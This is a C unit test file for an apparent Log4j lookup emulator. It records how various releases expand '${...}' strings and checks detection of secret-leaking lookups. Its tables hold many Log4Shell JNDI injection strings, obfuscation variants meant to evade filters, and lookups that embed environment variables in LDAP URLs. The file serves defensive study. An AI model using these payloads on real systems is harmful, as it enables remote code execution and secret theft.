/* What Log4j was measured to do, one row per fact. */
#include "lookup_test.h"

#define MSG CT_SINK_MESSAGE
#define ONE CT_SINK_SINGLE
#define CTX CT_SINK_CONTEXT
#define DONE CT_EVAL_DONE
#define THREW CT_EVAL_THREW
#define OVER CT_EVAL_OVERFLOWED
#define UNSET CT_VALUES_UNSET
#define NODEF CT_VALUES_SET_NO_DEFAULT
#define SET CT_VALUES_SET

/* name: of the first call, "" for none. text: after the last pass; null: not looked at. */
static const struct row {
    int line;
    const char *release;
    enum ct_sink sink;
    enum ct_values values;
    const char *in;
    enum ct_eval_end end;
    unsigned reached;
    const char *name, *text;
} rows[] = {
#define R(...) {__LINE__, __VA_ARGS__}
    /* plain text */
    R("2.14.1", MSG, UNSET, "", DONE, 0, "", ""),
    R("2.14.1", MSG, UNSET, "plain $ { } $", DONE, 0, "", "plain $ { } $"),
    R("2.14.1", MSG, UNSET, "${", DONE, 0, "", "${"),
    R("2.14.1", MSG, UNSET, "${}", DONE, 0, "", "${}"),
    /* the repeated pass: one call per "${" that is left */
    R("2.14.1", MSG, UNSET, "${jndi:ldap://h/a}", DONE, 1, "ldap://h/a", "${jndi:ldap://h/a}"),
    R("2.14.1", MSG, UNSET, "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://h/a}", DONE, 6, "ldap://h/a", NULL),
    R("2.14.1", ONE, UNSET, "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://h/a}", DONE, 1, "ldap://h/a", NULL),
    R("2.14.1", MSG, UNSET, "$${jndi:X:a} ${", DONE, 1, "X:a", "${jndi:X:a} ${"),
    R("2.14.1", MSG, UNSET, "${x} $${jndi:X:a}", DONE, 1, "X:a", "${x} ${jndi:X:a}"),
    R("2.14.1", MSG, UNSET, "${::-x}${::-$}{jndi:X:a}", DONE, 1, "X:a", "x${jndi:X:a}"),
    R("2.14.1", MSG, UNSET, "$${jndi:X:a}", DONE, 0, "", "${jndi:X:a}"),
    R("2.14.1", MSG, UNSET, "${::-$}{jndi:X:a}", DONE, 0, "", "${jndi:X:a}"),
    R("2.14.1", MSG, UNSET, "${jndi:X:a}${", DONE, 2, "X:a", NULL),
    R("2.5", MSG, UNSET, "$${jndi:X:a} ${", DONE, 0, "", "${jndi:X:a} ${"),
    R("2.6.2", MSG, UNSET, "$${jndi:X:a} ${", DONE, 1, "X:a", "${jndi:X:a} ${"),
    /* the position counts UTF-16 units: the second pass starts behind it all the same */
    R("2.14.1", MSG, UNSET, "\xf0\x9f\x92\xa5${::-\xc3\xa9}${::-$}{jndi:X:a}", DONE, 1, "X:a", NULL),
    R("2.14.1", MSG, UNSET, "\xf0\x9f\x92\xa5${::-$}{jndi:X:a}", DONE, 0, "", NULL),
    /* the matching brace */
    R("2.14.1", MSG, UNSET, "${ ${jndi:X:a}", DONE, 0, "", NULL),
    R("2.14.1", MSG, UNSET, "${${jndi:X:a}", DONE, 0, "", NULL),
    R("2.14.1", MSG, UNSET, "}${jndi:X:a}", DONE, 1, "X:a", NULL),
    R("2.14.1", MSG, UNSET, "${jndi:X:a $${b}}", DONE, 2, "X:a ${b}", NULL),
    R("2.14.1", MSG, UNSET, "${jndi:ldap://h/a\" \"agent}", DONE, 1, "ldap://h/a\" \"agent", NULL),
    /* inner first, left to right */
    R("2.14.1", ONE, UNSET, "${foo:${jndi:X:a}}", DONE, 1, "X:a", NULL),
    R("2.14.1", ONE, UNSET, "${jndi:a:b:-${jndi:X:a}}", DONE, 3, "X:a", "${jndi:X:a}"),
    R("2.14.1", ONE, UNSET, "${lower:${jndi:X:a}", DONE, 0, "", NULL),
    R("2.14.1", ONE, UNSET, "${lower:$${jndi:X:a}}", DONE, 1, "x:a", NULL),
    R("2.14.1", ONE, UNSET, "${foo:-$${jndi:X:a}}", DONE, 1, "X:a", "${jndi:X:a}"),
    R("2.14.1", ONE, UNSET, "${::-${::-$}{jndi:X:a}}", DONE, 0, "", NULL),
    R("2.14.1", MSG, UNSET, "${java:x}${jndi:X:a}", THREW, 0, "", NULL),
    R("2.14.1", MSG, UNSET, "${jndi:X:a}${java:x}", THREW, 1, "X:a", NULL),
    R("2.14.1", MSG, UNSET, "${event:Message}${jndi:X:a}", THREW, 0, "", NULL),
    R("2.14.1", MSG, UNSET, "${jndi:X:a}${event:Message}", THREW, 2, "X:a", NULL),
    R("2.14.1", MSG, UNSET, "${::-${event:Message}}", OVER, 0, "", NULL),
    R("2.12.1", MSG, UNSET, "${event:Message}${jndi:X:a}", DONE, 2, "X:a", NULL),
    R("2.0.2", ONE, UNSET, "${java:x}${jndi:X:a}", DONE, 1, "X:a", NULL),
    R("2.1", ONE, UNSET, "${java:x}${jndi:X:a}", THREW, 0, "", NULL),
    R("2.14.1", ONE, UNSET, "${a:-$${b:-$${a}}}", THREW, 0, "", NULL),
    R("2.14.1", ONE, UNSET, "${a:-$${a}}", THREW, 0, "", NULL),
    /* name and default */
    R("2.14.1", ONE, UNSET, "${::-j}", DONE, 0, "", "j"),
    R("2.14.1", ONE, UNSET, "${:-j}", DONE, 0, "", "j"),
    R("2.14.1", ONE, UNSET, "${env:A:-j}", DONE, 0, "", "j"),
    R("2.14.1", ONE, UNSET, "${a:-b:-c}", DONE, 0, "", "b:-c"),
    R("2.14.1", ONE, UNSET, "${a:b:c:-j}", DONE, 0, "", "j"),
    R("2.14.1", ONE, UNSET, "${a:-}", DONE, 0, "", ""),
    R("2.14.1", ONE, UNSET, "${jndi:X:a${::-:}-b}", DONE, 1, "X:a", "b"),
    R("2.0-rc1", ONE, UNSET, "${jndi:X:a:-b}", DONE, 1, "X:a:-b", "${jndi:X:a:-b}"),
    R("2.0-rc2", ONE, UNSET, "${jndi:X:a:-b}", DONE, 1, "X:a", "b"),
    R("2.14.1", ONE, UNSET, "${jndi:\\-ldap://h/a:-z}", DONE, 1, "ldap://h/a", "z"),
    R("2.14.1", ONE, UNSET, "${jndi:\\-ldap://h/a}", DONE, 1, "-ldap://h/a", NULL),
    R("2.13.0", ONE, UNSET, "${jndi:\\-ldap://h/a:-z}", DONE, 1, "\\-ldap://h/a", "z"),
    R("2.13.1", ONE, UNSET, "${jndi:\\-ldap://h/a:-z}", DONE, 1, "ldap://h/a", "z"),
    R("2.0-rc1", ONE, UNSET, "$${a}${jndi:X:a}", THREW, 0, "", NULL),
    R("2.0-rc1", ONE, UNSET, "${b}$${a}${jndi:X:a}", DONE, 1, "X:a", NULL),
    R("2.0-rc2", ONE, UNSET, "$${a}${jndi:X:a}", DONE, 1, "X:a", NULL),
    /* prefixes */
    R("2.14.1", ONE, UNSET, "${JnDi:X:a}", DONE, 1, "X:a", NULL),
    R("2.14.1", ONE, UNSET, "${ jndi:X:a}", DONE, 0, "", NULL),
    R("2.14.1", ONE, UNSET, "${jndi :X:a}", DONE, 0, "", NULL),
    R("2.14.1", ONE, UNSET, "${jnd\xc4\xb1:X:a}", DONE, 0, "", NULL),
    R("2.14.1", ONE, UNSET, "${jnd\xc4\xb0:X:a}", DONE, 0, "", NULL),
    R("2.14.1", ONE, UNSET, "${jnd${upper:\xc4\xb1}:X:a}", DONE, 1, "X:a", NULL),
    R("2.14.1", ONE, UNSET, "${jnd${lower:\xc4\xb0}:X:a}", DONE, 0, "", NULL),
    R("2.14.1", ONE, SET, "${mar\xe2\x84\xaa" "er:}", DONE, 0, "", CT_EVAL_VALUE),
    R("2.7", ONE, UNSET, "${JNDI:X:a}", DONE, 0, "", NULL),
    R("2.8", ONE, UNSET, "${JNDI:X:a}", DONE, 1, "X:a", NULL),
    R("2.14.1", ONE, UNSET, "${foo:hostName}${bar:contextName}", DONE, 0, "", CT_EVAL_VALUE "Default"),
    R("2.14.1", ONE, UNSET, "${jndi:a}", DONE, 1, "java:comp/env/a", NULL),
    R("2.14.1", ONE, UNSET, "${jndi:}", DONE, 1, "java:comp/env/", NULL),
    /* no expansion of names up to 2.7: the first brace closes, a nested opener hides the default */
    R("2.7", ONE, UNSET, "${jndi:X:${a}", DONE, 1, "X:${a", NULL),
    R("2.9.1", ONE, UNSET, "${jndi:X:${a}", DONE, 0, "", NULL),
    R("2.4.1", ONE, UNSET, "${${::-j}ndi:X:a}", DONE, 0, "", "${${::-j}ndi:X:a}"),
    R("2.4.1", ONE, UNSET, "${a:-b${c}", DONE, 0, "", "b${c"),
    R("2.4.1", ONE, UNSET, "${a:-${jndi:X:a}}", DONE, 0, "", "${jndi:X:a}"),
    /* lookups and when they came */
    R("2.12.1", ONE, UNSET, "${${lower:j}ndi:X:a}", DONE, 0, "", NULL),
    R("2.13.0", ONE, UNSET, "${${lower:J}ndi:X:a}", DONE, 1, "X:a", NULL),
    R("2.14.1", ONE, UNSET, "[${lower:}]", DONE, 0, "", "[]"),
    R("2.14.1", ONE, UNSET, "${upper:a\xc3\x9f\xef\xac\x83\xc5\xbf}", DONE, 0, "", "ASSFFIS"),
    R("2.14.1", ONE, UNSET, "${lower:\xe2\x84\xaa\xc3\x89\xc4\xb0}", DONE, 0, "", "k\xc3\xa9i\xcc\x87"),
    R("2.14.1", ONE, UNSET, "${date:'jndi'}|${date:}|${date:$}|${date:''}", DONE, 0, "", "jndi||$|'"),
    R("2.14.1", ONE, UNSET, "${date:Q:-x}", DONE, 0, "", "12/10/21, 1:57 PM"),
    R("2.14.1", ONE, UNSET, "${${date:'j'}${date:'n'}di:X:a}", DONE, 1, "X:a", NULL),
    R("2.14.1", ONE, UNSET, "${event:Level}${event:Nothing}", DONE, 0, "", "ERROR${event:Nothing}"),
    R("2.13.1", ONE, UNSET, "${event:Level}", DONE, 0, "", "${event:Level}"),
    R("2.14.1", ONE, UNSET, "${base64:JHtqbmRpOng6eX0=}", DONE, 0, "", "${base64:JHtqbmRpOng6eX0=}"),
    R("2.14.1", ONE, UNSET, "${sys:path.separator}${sys:file.separator}${sys:no.such}", DONE, 0, "", ":/${sys:no.such}"),
    R("2.14.1", ONE, UNSET, "%24%7bjndi:X:a}&#36;{jndi:X:a}\\u0024{jndi:X:a}", DONE, 0, "", NULL),
    /* values */
    R("2.9.1", ONE, UNSET, "${${env:NOSUCH:-j}ndi${env:NOSUCH:-:}ldap://h/a}", DONE, 1, "ldap://h/a", NULL),
    R("2.9.1", ONE, SET, "${${env:NOSUCH:-j}ndi${env:NOSUCH:-:}ldap://h/a}", DONE, 0, "", NULL),
    R("2.9.1", ONE, NODEF, "${${env:NOSUCH:-j}ndi:ldap://${env:U}/a}", DONE, 1, "ldap://" CT_EVAL_VALUE "/a", NULL),
    R("2.9.1", ONE, SET, "${${env::-j}ndi:ldap://h/a}", DONE, 1, "ldap://h/a", NULL),
    R("2.9.1", ONE, SET, "${bundle:a}${bundle:a:b}${log4j:x}", DONE, 0, "", "${bundle:a}" CT_EVAL_VALUE "${log4j:x}"),
    /* 2.15.0 starts at the first "${" and passes once */
    R("2.15.0", MSG, UNSET, "$${jndi:X:a}", DONE, 1, "X:a", "$${jndi:X:a}"),
    R("2.15.0", MSG, UNSET, "a${b}$${jndi:X:a}", DONE, 0, "", NULL),
    R("2.15.0", MSG, UNSET, "${jndi:X:a}${", DONE, 1, "X:a", NULL),
    R("2.15.0", CTX, UNSET, "$${jndi:X:a}", DONE, 0, "", "${jndi:X:a}"),
    R("2.16.0", CTX, UNSET, "${jndi:X:a}", DONE, 1, "X:a", NULL),
#undef R
};

static void facts(void **state)
{
    (void)state;
    ct_arena *a = arena_new();
    unsigned failed = 0;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        const struct row *w = &rows[i];
        const struct ct_profile *p = ct_profile_find(ct_str_from(w->release));
        assert_non_null(p);
        struct ct_eval_result r = evaluate(a, p, w->sink, w->values, ct_str_from(w->in));
        ct_str name = r.n_calls ? r.calls[0].name : CT_STR("");
        if (r.end != w->end || r.n_reached != w->reached || !ct_str_eq(name, ct_str_from(w->name))
            || (w->text && !ct_str_eq(r.text, ct_str_from(w->text)))) {
            print_error("line %d: %s %s: end %d, reached %u, name '%.*s', text '%.*s'\n", w->line, w->release, w->in, r.end,
                        (unsigned)r.n_reached, CT_STR_ARG(name), CT_STR_ARG(r.text));
            failed++;
        }
        ct_arena_clear(a);
    }
    ct_arena_free(a);
    assert_int_equal(failed, 0);
}

static void secrets_are_noticed(void **state)
{
    (void)state;
    static const struct {
        int line;
        const char *in;
        enum ct_values values;
        bool asks, leaks, nested;
        size_t unknowns;
        const char *first;
    } table[] = {
        {__LINE__, "${jndi:ldap://h/${env:A}}", UNSET, true, true, false, 1, "env:A"},
        {__LINE__, "${jndi:ldap://h/${env:A}}", SET, true, true, false, 1, "env:A"},
        {__LINE__, "${jndi:ldap://h/${upper:${ENV:A}}}", SET, true, true, false, 1, "env:A"},
        {__LINE__, "${jndi:ldap://h/${hostName}}", UNSET, false, true, false, 0, NULL},
        {__LINE__, "${jndi:ldap://h/${java:os}}", UNSET, true, true, false, 0, NULL},
        {__LINE__, "${jndi:ldap://h/${sys:java.version}}", UNSET, true, true, false, 0, NULL},
        {__LINE__, "${jndi:ldap://h/${date:yyyy}${sys:file.separator}}", UNSET, false, false, false, 0, NULL},
        {__LINE__, "${jndi:ldap://h/${env::-x}}", SET, false, false, false, 0, NULL},
        {__LINE__, "${jndi:ldap://h/${env:A:-x}}", UNSET, true, false, false, 0, NULL},
        {__LINE__, "${jndi:ldap://h/${env:A:-x}}", SET, true, true, false, 1, "env:A"},
        {__LINE__, "${env:A}${env:B}${env:A}${jndi:ldap://h/}", UNSET, true, false, false, 2, "env:A"},
        {__LINE__, "${ctx:u}", UNSET, true, false, false, 1, "ctx:u"},
        {__LINE__, "${::-${ctx:u}}", UNSET, true, false, true, 1, "ctx:u"},
        {__LINE__, "${a:-$${ctx:u}}", UNSET, true, false, true, 1, "ctx:u"},
    };
    ct_arena *a = arena_new();
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
        struct ct_eval_result r = evaluate(a, ct_profile_find(CT_STR("2.14.1")), CT_SINK_SINGLE, table[i].values,
                                           ct_str_from(table[i].in));
        if (r.asks_secret != table[i].asks || r.leaks_in_name != table[i].leaks || r.nested_context != table[i].nested
            || r.n_unknowns != table[i].unknowns || (table[i].first && !ct_str_eq(r.unknowns[0], ct_str_from(table[i].first))))
            fail_msg("line %d: asks %d leaks %d nested %d unknowns %zu", table[i].line, r.asks_secret, r.leaks_in_name,
                     r.nested_context, r.n_unknowns);
        ct_arena_clear(a);
    }
    ct_arena_free(a);
}

struct trace {
    char text[1024];
    size_t n;
};

static void trace_step(void *ctx, const struct ct_eval_step *s)
{
    static const char *const kinds[] = {"pass", "lookup", "unclosed", "escape", "throw"};
    struct trace *t = ctx;
    int n = snprintf(t->text + t->n, sizeof t->text - t->n, "%s %u.%u %.*s", kinds[s->kind], s->pass, s->depth,
                     s->kind == CT_STEP_LOOKUP ? (int)s->name.n : (int)s->text.n,
                     (const char *)(s->kind == CT_STEP_LOOKUP ? s->name.p : s->text.p));
    t->n += (size_t)n;
    n = snprintf(t->text + t->n, sizeof t->text - t->n, "%s%.*s;", s->has_value ? s->from_default ? " => " : " = " : "",
                 (int)s->value.n, (const char *)s->value.p);
    t->n += (size_t)n;
}

static void steps_tell_the_story(void **state)
{
    (void)state;
    static const struct {
        int line;
        const char *in, *want;
    } table[] = {
        {__LINE__, "${${lower:J}ndi:X:${a:-b}}",
         "pass 1.0 ${${lower:J}ndi:X:${a:-b}};lookup 1.1 lower:J = j;lookup 1.1 a => b;lookup 1.0 jndi:X:b;"},
        {__LINE__, "$${a} ${", "pass 1.0 $${a} ${;escape 1.0 ${a} ${;unclosed 1.0 ${;pass 2.0 ${a} ${;lookup 2.0 a;unclosed 2.0 ${;"},
        {__LINE__, "${java:x}", "pass 1.0 ${java:x};throw 1.0 java: unknown key;"},
        {__LINE__, "${a:-$${a}}",
         "pass 1.0 ${a:-$${a}};escape 1.1 ${a};lookup 1.0 a => ${a};throw 1.1 a value refers to itself;"},
    };
    ct_arena *a = arena_new();
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
        struct trace t = {.n = 0};
        uint64_t work = CT_EVAL_WORK_MAX;
        struct ct_eval_opts opts = {.work = &work, .step = trace_step, .step_ctx = &t};
        struct ct_eval_result r;
        assert_int_equal(ct_eval(a, ct_profile_find(CT_STR("2.14.1")), &opts, ct_str_from(table[i].in), &r), CT_OK);
        if (strcmp(t.text, table[i].want) != 0) fail_msg("line %d: %s", table[i].line, t.text);
    }
    ct_arena_free(a);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(facts),
        cmocka_unit_test(secrets_are_noticed),
        cmocka_unit_test(steps_tell_the_story),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
